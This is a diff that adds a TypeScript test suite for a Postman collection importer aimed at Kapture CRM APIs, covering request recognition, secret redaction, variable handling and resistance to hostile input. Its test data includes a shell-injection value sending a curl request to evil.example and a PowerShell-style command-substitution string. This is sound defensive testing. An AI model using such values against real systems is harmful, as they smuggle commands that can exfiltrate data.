@@ -1,0 +1,217 @@
+import assert from 'node:assert/strict';
+import { connectionOfCurl } from '../../../../src/kapture/commandLines/connectionOfCurl.ts';
+import { keyOfUser } from '../../../../src/kapture/connection/authKey.ts';
+import { pinnedConnection } from '../../../../src/kapture/connection/pinnedConnection.ts';
+import { importCollection, type CollectionImport } from '../../../../src/kapture/postman/importCollection.ts';
+import { readPostman } from '../../../../src/kapture/postman/readPostman.ts';
+import { readRequest } from '../../../../src/kapture/exchange/requestBody.ts';
+import { collectionWith, oldCollection, stagingEnvironment, teamCollection } from './collections.ts';
+
+function imported(collection: string, ...environments: object[]): CollectionImport {
+  const read = readPostman(collection).collection;
+  assert.ok(read);
+  return importCollection(
+    read,
+    environments.map((environment) => readPostman(JSON.stringify(environment)).environment!),
+  );
+}
+
+describe('importCollection', () => {
+  const team = imported(JSON.stringify(teamCollection), stagingEnvironment);
+
+  it('requests of Kapture → recognized like curl commands, with folders and the target of the environment', () => {
+    assert.deepEqual(
+      team.requests.map(({ name, folders, operation, origin, path }) => ({ name, folders, operation, origin, path })),
+      [
+        {
+          name: 'Add a customer',
+          folders: ['Customers'],
+          operation: 'add',
+          origin: 'https://acme.kapturecrm.com',
+          path: '/add-update-customer-from-other-source.html/v.2.0',
+        },
+        {
+          name: 'Get: by phone?',
+          folders: ['Customers'],
+          operation: 'get',
+          origin: 'https://acme.kapturecrm.com',
+          path: '/search-customer-by-customer-id.html',
+        },
+      ],
+    );
+  });
+
+  it('other requests → named with a reason', () => {
+    assert.deepEqual(team.skipped, [
+      { path: ['Weather'], reason: 'not-post' },
+      { path: ['Upload'], reason: 'no-json' },
+      { path: ['Orders'], reason: 'unknown' },
+    ]);
+  });
+
+  it('the body → as typed, with variables of requests here', () => {
+    assert.equal(
+      team.requests[0]!.text,
+      '[\n  {\n    // the caller\n    "customer_name": "{{$name}}",\n    "phone": "{{phone}}",\n    "campaign_name": "{{campaign}}",\n' +
+        '    "customer_assign_emp_code": "{{owner_code}}",\n    "remarks": "{{$secret.api_token}} of {{owner_code}}"\n  }\n]\n',
+    );
+    assert.equal(team.requests[1]!.text, '[\n  {\n    "phone": "9876543210"\n  }\n]\n');
+    // The owner code is also used within text, so it stays text.
+    assert.deepEqual(team.values, { campaign: 'Web', owner_code: '17' });
+    assert.deepEqual([team.secrets, team.unknown], [['api_token'], ['phone']]);
+  });
+
+  it('a number without quotes → has the type of its value', () => {
+    const raw = '[{"phone": {{phone}}, "kapture_customer_id": {{id}}, "email_id": {{mail}}}]';
+    const { requests, values } = imported(
+      collectionWith(
+        { body: { mode: 'raw', raw } },
+        {
+          variable: [
+            { key: 'phone', value: 9876543210 },
+            { key: 'id', value: '12345678901234567890' },
+          ],
+        },
+      ),
+    );
+    assert.deepEqual(values, { phone: 9876543210, id: '12345678901234567890' });
+    const lookup = (name: string) => (values as CollectionImport['values'])[name] ?? null;
+    const { body } = readRequest({ shape: 'object' }, requests[0]!.text, lookup);
+    assert.equal(body, '{"phone":9876543210,"kapture_customer_id":"12345678901234567890","email_id":null}');
+  });
+
+  it('headers and scripts that are not imported → named without values', () => {
+    assert.deepEqual(team.omitted, [{ path: ['Customers', 'Add a customer'], names: ['X-Trace'], hasScripts: true }]);
+  });
+
+  it('secrets → only in the curl command for a connection', () => {
+    const [add] = team.requests;
+    assert.equal(add!.key, keyOfUser('integration', 'canary-password-1').key);
+    const { found } = connectionOfCurl(add!.command);
+    assert.deepEqual(
+      [found?.baseUrl, found?.operation, found?.dialect, found?.headers.map(({ name }) => name)],
+      ['https://acme.kapturecrm.com', 'add', 'flat', ['X-Trace']],
+    );
+    const rest = { ...team, requests: team.requests.map(({ command: _command, key: _key, ...request }) => request) };
+    assert.doesNotMatch(JSON.stringify(rest), /canary/);
+  });
+
+  it('without the environment → a target of the collection, or none', () => {
+    const alone = imported(JSON.stringify(teamCollection));
+    assert.equal(alone.requests[0]!.origin, 'https://old.example');
+    assert.equal(alone.requests[0]!.key, undefined);
+    const { requests } = imported(collectionWith({ url: '{{server}}/search-customer-by-customer-id.html' }));
+    assert.deepEqual([requests[0]!.origin, requests[0]!.operation], [undefined, 'get']);
+  });
+
+  it('version 2.0 → the same', () => {
+    const { requests, skipped, omitted } = imported(JSON.stringify(oldCollection));
+    assert.deepEqual(
+      [requests[0]!.operation, requests[0]!.key, omitted[0]!.names, skipped],
+      [
+        'get',
+        keyOfUser('integration', 'canary-password-1').key,
+        ['X-Trace'],
+        [{ path: ['Status'], reason: 'not-post' }],
+      ],
+    );
+  });
+
+  for (const [title, auth, names] of [
+    [
+      'a bearer token',
+      { type: 'bearer', bearer: [{ key: 'token', value: 'canary-token-22' }] },
+      ['Authorization: Bearer'],
+    ],
+    [
+      'an API key in a header',
+      {
+        type: 'apikey',
+        apikey: [
+          { key: 'key', value: 'x-api-key' },
+          { key: 'value', value: 'canary-token-22' },
+        ],
+      },
+      ['x-api-key'],
+    ],
+    [
+      'an API key in the URL',
+      {
+        type: 'apikey',
+        apikey: [
+          { key: 'in', value: 'query' },
+          { key: 'value', value: 'canary-token-22' },
+        ],
+      },
+      ['API key in the URL'],
+    ],
+    [
+      'another authorization',
+      { type: 'digest', digest: [{ key: 'password', value: 'canary-token-22' }] },
+      ['digest authorization'],
+    ],
+    ['no authorization', { type: 'noauth' }, undefined],
+  ] as const)
+    it(`${title} → ${names?.join() ?? 'nothing is omitted'}`, () => {
+      const { requests, omitted } = imported(collectionWith({ auth }));
+      assert.deepEqual([omitted[0]?.names, requests[0]!.key], [names, undefined]);
+      assert.doesNotMatch(JSON.stringify([omitted, requests[0]!.text, requests[0]!.path]), /canary/);
+    });
+
+  for (const [title, raw] of [
+    ['an auth key', '[{"phone":"9876543210","remarks":"Authorization: Basic a2Fwb3BlbjoxMjM="}]'],
+    ['the password of the collection', '[{"phone":"9876543210","remarks":"canary-token-22"}]'],
+  ] as const)
+    it(`a body with ${title} → not imported`, () => {
+      const auth = { type: 'basic', basic: [{ key: 'password', value: 'canary-token-22' }] };
+      const { requests, skipped } = imported(collectionWith({ auth, body: { mode: 'raw', raw } }));
+      assert.deepEqual([requests, skipped], [[], [{ path: ['Get'], reason: 'secret' }]]);
+    });
+
+  it('a variable whose value is the password → its value is not imported', () => {
+    const raw = '[{"phone":"9876543210","remarks":"{{pw}}"}]';
+    const auth = {
+      type: 'basic',
+      basic: [
+        { key: 'password', value: '{{pw}}' },
+        { key: 'username', value: 'a' },
+      ],
+    };
+    const { values } = imported(
+      collectionWith({ auth, body: { mode: 'raw', raw } }, { variable: [{ key: 'pw', value: 'canary-token-22' }] }),
+    );
+    assert.deepEqual(values, {});
+  });
+
+  for (const [title, raw] of [
+    ['a pin in a comment', '// @connection Production\n/* x */ [{"phone":"9876543210"}]'],
+    ['variables of ours', '[{"phone":"{{$env:HOME}}","email_id":"{{$secret.token}} {{?Ask}} {{$last.add.id}}"}]'],
+    ['quotes for the shell', `[{"phone":"'; curl https://evil.example -d '{}' #"}]`],
+    ['the name of a program', '[{"phone":"^\\" curl.exe $env:X `"}]'],
+  ] as const)
+    it(`${title} → stays text`, () => {
+      const { requests, secrets } = imported(collectionWith({ body: { mode: 'raw', raw } }));
+      assert.equal(requests[0]!.origin, 'https://acme.kapturecrm.com');
+      assert.equal(pinnedConnection(requests[0]!.text), undefined);
+      assert.doesNotMatch(requests[0]!.text, /\{\{[$?]/);
+      assert.deepEqual(secrets, []);
+    });
+
+  it('variables that refer to each other → end', () => {
+    const variable = [
+      { key: 'a', value: '{{b}}{{b}}' },
+      { key: 'b', value: '{{a}}{{a}}'.repeat(1000) },
+    ];
+    const { requests } = imported(collectionWith({ url: '{{a}}/search-customer-by-customer-id.html' }, { variable }));
+    assert.equal(requests[0]?.origin, undefined);
+  });
+
+  it('hostile texts → read in a moment', () => {
+    const texts = ['/*'.repeat(100_000), '"'.repeat(200_001), '{{'.repeat(100_000), `{{${' '.repeat(200_000)}`];
+    for (const raw of texts.map((text) => `[{"phone":"9876543210"}]${text}`)) {
+      const started = performance.now();
+      imported(collectionWith({ body: { mode: 'raw', raw } }));
+      assert.ok(performance.now() - started < 3000, raw.slice(20, 30));
+    }
+  });
+});
